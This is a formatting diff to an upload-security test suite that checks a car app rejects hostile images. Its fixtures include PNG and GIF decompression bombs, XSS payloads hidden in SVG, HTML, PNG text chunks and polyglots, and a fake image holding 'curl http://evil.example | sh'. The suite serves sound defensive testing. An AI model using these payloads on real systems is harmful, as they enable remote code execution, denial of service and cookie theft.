@@ -50,14 +50,47 @@ async function realPixelBomb(side: number): Promise<Buffer> {
   header.writeUInt32BE(side, 4);
   header[8] = 8;
   header[9] = 0;
-  return Buffer.concat([Buffer.from([137, 80, 78, 71, 13, 10, 26, 10]), pngChunk('IHDR', header), pngChunk('IDAT', Buffer.concat(chunks)), pngChunk('IEND', Buffer.alloc(0))]);
+  return Buffer.concat([
+    Buffer.from([137, 80, 78, 71, 13, 10, 26, 10]),
+    pngChunk('IHDR', header),
+    pngChunk('IDAT', Buffer.concat(chunks)),
+    pngChunk('IEND', Buffer.alloc(0)),
+  ]);
 }
 
 /** A GIF whose header claims 65535 x 65535 pixels (4.3 gigapixels) in 40 bytes. */
 function gifBomb(): Buffer {
   return Buffer.from([
-    ...Buffer.from('GIF89a'), 0xff, 0xff, 0xff, 0xff, 0x80, 0, 0, 0, 0, 0, 0xff, 0xff, 0xff,
-    0x2c, 0, 0, 0, 0, 0xff, 0xff, 0xff, 0xff, 0, 2, 2, 0x44, 0x01, 0, 0x3b,
+    ...Buffer.from('GIF89a'),
+    0xff,
+    0xff,
+    0xff,
+    0xff,
+    0x80,
+    0,
+    0,
+    0,
+    0,
+    0,
+    0xff,
+    0xff,
+    0xff,
+    0x2c,
+    0,
+    0,
+    0,
+    0,
+    0xff,
+    0xff,
+    0xff,
+    0xff,
+    0,
+    2,
+    2,
+    0x44,
+    0x01,
+    0,
+    0x3b,
   ]);
 }
 
@@ -84,7 +117,9 @@ let photo: Buffer;
 beforeAll(async () => {
   t = await createTestApp();
   owner = await createOwner(t.app);
-  photo = await sharp({ create: { width: 320, height: 240, channels: 3, background: '#2563eb' } }).jpeg().toBuffer();
+  photo = await sharp({ create: { width: 320, height: 240, channels: 3, background: '#2563eb' } })
+    .jpeg()
+    .toBuffer();
 });
 afterAll(async () => {
   await t?.close();
@@ -94,7 +129,12 @@ type Target = 'add-car' | 'update-image';
 async function upload(target: Target, files: FilePart[]): Promise<LightMyRequestResponse> {
   const fields: Record<string, string> = target === 'add-car' ? { carData: JSON.stringify(carForm()) } : {};
   const form = await multipart(fields, files);
-  return t.app.inject({ method: 'POST', url: target === 'add-car' ? API.addCar : API.updateImage, headers: { ...authHeader(owner.token), ...form.headers }, payload: form.payload });
+  return t.app.inject({
+    method: 'POST',
+    url: target === 'add-car' ? API.addCar : API.updateImage,
+    headers: { ...authHeader(owner.token), ...form.headers },
+    payload: form.payload,
+  });
 }
 const file = (bytes: Buffer, filename = 'car.png', type = 'image/png'): FilePart => ({ name: 'image', bytes, filename, type });
 
@@ -106,7 +146,12 @@ function storedUrl(target: Target, res: LightMyRequestResponse): string {
 describe(`hostile uploads (${describeDatabase})`, () => {
   const refusedFiles: Array<[string, () => Promise<FilePart[]> | FilePart[], number, string]> = [
     ['a script renamed .png', () => [file(Buffer.from('<script>fetch("/api/owner/dashboard")</script>'))], 400, MESSAGES.imageInvalid],
-    ['a shell script renamed .jpg', () => [file(Buffer.from('#!/bin/sh\ncurl http://evil.example | sh\n'), 'car.jpg', 'image/jpeg')], 400, MESSAGES.imageInvalid],
+    [
+      'a shell script renamed .jpg',
+      () => [file(Buffer.from('#!/bin/sh\ncurl http://evil.example | sh\n'), 'car.jpg', 'image/jpeg')],
+      400,
+      MESSAGES.imageInvalid,
+    ],
     ['an SVG with a script', () => [file(SVG, 'car.svg', 'image/svg+xml')], 400, MESSAGES.imageInvalid],
     ['an SVG with a script, named .png', () => [file(Buffer.concat([Buffer.from('<?xml version="1.0"?>'), SVG]), 'car.png')], 400, MESSAGES.imageInvalid],
     ['an HTML page named .webp', () => [file(Buffer.from('<!doctype html><body onload="alert(1)">'), 'car.webp', 'image/webp')], 400, MESSAGES.imageInvalid],
@@ -147,11 +192,18 @@ describe(`hostile uploads (${describeDatabase})`, () => {
     const polyglots: Array<[string, () => Promise<Buffer>]> = [
       ['a GIF that is also JavaScript', async () => gifJavascriptPolyglot()],
       ['a JPEG with an HTML page appended', async () => Buffer.concat([photo, Buffer.from('<html><script>alert(document.cookie)</script></html>')])],
-      ['a PNG carrying a script in a text chunk', async () => {
-        const png = await sharp(photo).png().toBuffer();
-        // After the signature (8 bytes) and IHDR (25 bytes).
-        return Buffer.concat([png.subarray(0, 33), pngChunk('tEXt', Buffer.from('Comment\0<script>alert(1)</script> javascript:alert(2)', 'latin1')), png.subarray(33)]);
-      }],
+      [
+        'a PNG carrying a script in a text chunk',
+        async () => {
+          const png = await sharp(photo).png().toBuffer();
+          // After the signature (8 bytes) and IHDR (25 bytes).
+          return Buffer.concat([
+            png.subarray(0, 33),
+            pngChunk('tEXt', Buffer.from('Comment\0<script>alert(1)</script> javascript:alert(2)', 'latin1')),
+            png.subarray(33),
+          ]);
+        },
+      ],
     ];
     for (const [name, make] of polyglots) {
       it(`${target}: ${name} is refused, or stored only as a clean WebP without the payload`, async () => {
